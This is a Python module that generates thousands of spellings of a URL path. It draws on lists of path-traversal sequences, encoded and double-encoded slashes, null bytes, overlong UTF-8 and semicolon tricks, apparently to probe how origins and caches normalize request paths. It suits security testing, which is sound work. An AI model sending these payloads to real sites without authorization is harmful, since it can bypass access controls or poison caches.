"""Spells a path in thousands of ways, some of which an origin may take for that path."""

from typing import NamedTuple
from zlib import crc32

_SLASHES = (
    "/", "//", "///", "/./", "/.//", "%2F", "%2f", "%2F%2f", "/%2F", "%2F/", "\\", "%5C", "%5c", "/\\", "%252F",
    "%252f", "%25252F", "%2525252F", "%255C", "/%2e/", "/%2E/", "%2F.%2F", "%2F%2e%2F", "/%252e/", "%252F%252e%252F",
    "/;/", "/;x=1/", ";/", ";x=1/", ";x=1;y/", "/.;/", "/.;x/", "%3B/", "/%3Bx%2F", "%253B/", "/x/../", "/x/%2e%2e/",
    "/x/.%2E/", "/x%2F..%2F", "%2Fx%2F..%2F", "/x%2f%2e%2e%2f", "/x/..%2F", "/x/..;/", "/x/..;x=1/", "/x;y/..;z/",
    "/x\\..\\", "/x/..\\", "/x/..%5C", "/x%5C..%5C", "/x/%252e%252e/", "/x/%252e%252e%252f", "/x/%25252e%25252e/",
    "/x//../", "/x//../../", "/x/y/../../", "/x/./../", "/:/../", "/a:/../", "/a://../", "/a:////../", "/a://../../",
    "/a:%2F%2F..%2F", "/a:%2F%2F..%2F..%2F", "/%3A//../", "/x%23/../", "/x%23y/..%2F", "/x#/../", "/x%3F/../",
    "/x%3F/..%2F", "/x%00/../", "/x%2500/../", "/x%2523/../", "/x%253F/../", "/x%252523/..%252F", "%00/", "/%00/",
    "%c0%af", "%C0%AF", "%e0%80%af", "%u002f", "%EF%BC%8F", "/%09/", "/%20/../", "/%/../", "/%zz/../", "/%2/../",
)  # fmt: skip
"""What may stand for a slash inside a path."""

_BEGINNINGS = (
    "/../", "/%2e%2e/", "/..%2F", "/..%5C", "/..\\", "/.%2e/", "/..;/", "/%252e%252e/", "/../../..//", "/?/../",
    "/http://shop.example.com/", "/https:/", "/https:///..//../", "//shop.example.com/", "//shop.example.com/../",
    "/shop.example.com/../", "/static/../", "/static/..//", "/static//../", "/static//../../", "/static/./../",
    "/static/%2e%2e/", "/static/%2E%2e%2F", "/static/..%2F", "/static/..%2f", "/static%2F..%2F", "/static%2f%2e%2e/",
    "/static/..%5C", "/static/..%5c", "/static%5C..%5C", "/static\\..\\", "/static/..\\", "/static/%252e%252e/",
    "/static/%252e%252e%252F", "/static/..%252F", "/static/..%255C", "/static/%25252e%25252e%25252F",
    "/static/..%25252F", "/static/..;/", "/static/..;x=1/", "/static;x/../", "/static/;/../", "/static/;/../../",
    "/static/..%3B/", "/static/..%3Bx%2F", "/static/x/../../", "/static/x/..%2F..%2F", "/static/x%2F..%2F..%2F",
    "/static/x/%2e%2e/%2e%2e/", "/static/app.css/../../", "/static/app.css%2F..%2F..%2F", "/static/app.css/..;/..;/",
    "/static%23/../", "/static%23/..%2F", "/static/%23/..%2F..%2F", "/static#/../", "/static/#/../../",
    "/static%3F/../", "/static/%3F/../../", "/static/%3F/..%2F..%2F", "/static%00/../", "/static%2500/../",
    "/static/%2523/..%252F..%252F", "/static/a:/../../", "/static/a://../../", "/static/a://../../../",
    "/static/a:%2F%2F..%2F..%2F", "/static/a:%2F%2F..%2F..%2F..%2F", "/static/..%c0%af", "/static/%c0%ae%c0%ae/",
    "/free/../", "/free/..%2F", "/free/..%5C", "/free/..;/", "/free/%252e%252e%252F", "/free//../../", "/free;/../",
    "/free/x://../../../", "/free%23/..%2F", "/a/free/../../", "/nothing/static/../../../", "/%73tatic/..%2F",
)  # fmt: skip
"""What may stand before the path instead of its first slash, mostly a way through another folder."""

_ENDINGS = (
    "?", "?x", "?x=1&y=2", "?/static/", "?x=/../static/app.css", "?#", "?;", "?%2F", "?x=%2F..%2F..%2Fstatic%2F",
    "#", "#x", "#/static/", "#/../static/", "#/../../static/app.css", "#?x", "%23", "%23x", "%23/static/",
    "%23/../../static/app.css", "%23/..%2F..%2Fstatic%2Fapp.css", "%2523", "%2523/../../static/app.css", "%3F",
    "%3Fx", "%3F/static/", "%3F/../../static/app.css", "%3Fx/..%2F..%2F..%2Fstatic%2F", "%253F", "%253Fx", "%25253F",
    "%00", "%00.css", "%00/static/", "%00/../../static/app.css", "%2500", "%2500.css", "%2500/../../static/", ";",
    ";x", ";x=1", ";/../../static", ";x=1;y=2", "%3B", "%3Bx=1", "%253B", ";jsessionid=1?x", "%20", "+", "%09", "%0A",
    "%0D%0A", ".", "%2E", "%", "%2", "%zz", "&", "=", ":", "::$DATA", "/.", "/%2e", "/x/..", "/x/%2e%2e", "/../row",
    "/..%2Frow", "%2F..%2Frow", "/..%5Crow", "\\..\\row", "/..;/row", "/%2e%2e/row", "/%252e%252e/row",
    "/../../tickets/row", "/..%2F..%2Ftickets%2Frow", "/./../row", "//../row", "//../../row",
)  # fmt: skip
"""What may stand behind the path without making it another address."""

_LONGER_ENDINGS = (
    "/", "//", "/./", "%2F", "%2f", "%252F", "\\", "%5C", "%255C", "/?", "/#", "/%23", "/;", ";/", "/..;/row/",
    "/%00", "/x/../", "/x/..;/", "/%20", "%2F?x", "/x/..%2F", "%2F.",
)  # fmt: skip
"""What makes the path another address, with a slash added, which some origins answer with the same page."""


_FREQUENT = frozenset(
    [
        "/", "%2F", "%5C", "%252F", ";x=1/", "/x%2F..%2F", "/%2e%2e/", "/static/..%2F", "/static%2F..%2F",
        "/static/..;/", "/static/a://../../", "", "?x", "%23", "%00", ";x",
    ]
)  # fmt: skip
"""What is combined with everything else."""


def _escaped(text: str, times: int = 1, lower: bool = False) -> str:
    """`text` with every character percent-encoded, `times` over."""
    percent = "%" + "25" * (times - 1)
    return "".join([f"{percent}{ord(one):02x}" if lower else f"{percent}{ord(one):02X}" for one in text])


def _names(name: str) -> list[str]:
    first, rest = name[0], name[1:]
    return [
        name,
        _escaped(first) + rest,
        name[:-1] + _escaped(name[-1], lower=True),
        _escaped(name),
        _escaped(name, lower=True),
        _escaped(first, 2) + rest,
        _escaped(name, 2),
        _escaped(first, 3) + rest,
        _escaped(name, 3, lower=True),
        _escaped(first, 4) + rest,
    ]


class Spelling(NamedTuple):
    """A request target, and whether it may be another address of the page: one with a slash added."""

    text: str
    is_longer: bool


def spellings(path: str, one_pair_in: int = 1) -> list[Spelling]:
    """Spellings of `path`, `/first/second`: every choice for a place, alone and with a frequent one for another place.

    Of those with two odd places one in so many is taken, always the same ones.
    """
    first, second = path[1:].split("/")
    beginnings = ("/", *[one for one in _SLASHES if one[0] == "/" and one != "/"], *_BEGINNINGS)
    every = (beginnings, _names(first), _SLASHES, _names(second), ("", *_ENDINGS, *_LONGER_ENDINGS))
    plain = [choices[0] for choices in every]
    frequent = [[one for one in choices if one in _FREQUENT] or choices[:2] for choices in every]
    made = {}
    for place, choices in enumerate(every):
        for other, others in enumerate(frequent):
            if other == place:
                continue
            chosen = [*plain]
            for chosen[place] in choices:
                for chosen[other] in others:
                    text = "".join(chosen)
                    is_pair = chosen[place] != plain[place] and chosen[other] != plain[other]
                    if not is_pair or crc32(text.encode()) % one_pair_in == 0:
                        made[text] = chosen[-1] in _LONGER_ENDINGS
    return [Spelling(text, is_longer) for text, is_longer in made.items()]
